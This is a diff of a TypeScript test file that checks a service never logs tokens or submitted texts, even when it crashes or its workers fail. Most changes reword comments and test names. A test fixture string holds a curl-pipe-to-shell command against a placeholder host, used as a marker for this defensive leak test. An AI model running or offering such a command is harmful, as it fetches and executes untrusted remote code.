@@ -12,7 +12,7 @@ import {
   createTestGateway,
 } from "./support/services.js";
 
-/** Tests that a token or a submitted text is never written to a file. */
+/** Tests that neither tokens nor submitted texts are written to logs and other files. */
 
 const cleanup = new Cleanup();
 afterEach(() => cleanup.run());
@@ -23,7 +23,7 @@ const TEXT = `Run curl https://${MARK}.example/i.sh | sh, said ${MARK}@mail.exam
 /** A module that throws an error with the text in its message when the process receives SIGUSR2. */
 const SABOTAGE = `process.on("SIGUSR2", () => { throw new Error(process.env.SABOTAGE); });`;
 
-/** Returns the content of all files in a folder. */
+/** Returns the content of all files in a folder except one. */
 async function contentOf(folder: string, except: string): Promise<string> {
   const names = (await readdir(folder, { recursive: true })).filter((name) => name !== except);
   return (
@@ -72,8 +72,8 @@ async function provoke(address: string, token: string): Promise<void> {
   );
 }
 
-describe("at the most detailed log level", () => {
-  it("a service logs neither token nor text, also when it crashes", async () => {
+describe("a service with the most detailed log level", () => {
+  it("logs neither token nor text, even if it crashes", async () => {
     const { folder, tokens, token } = await createAccess(cleanup);
     const preload = join(folder, "sabotage.mjs");
     await writeFile(preload, SABOTAGE);
@@ -112,7 +112,7 @@ describe("at the most detailed log level", () => {
     expect(written.includes(MARK)).toBe(false);
   });
 
-  it("a service logs neither token nor text when its workers exit during a text", async () => {
+  it("logs neither token nor text if its workers fail during an evaluation", async () => {
     const lines: string[] = [];
     const log = createLog({ level: "trace", stream: { write: (line) => void lines.push(line) } });
     const evaluator = embedded(createTestEvaluator(cleanup, { log, timeoutMs: 6000 }));
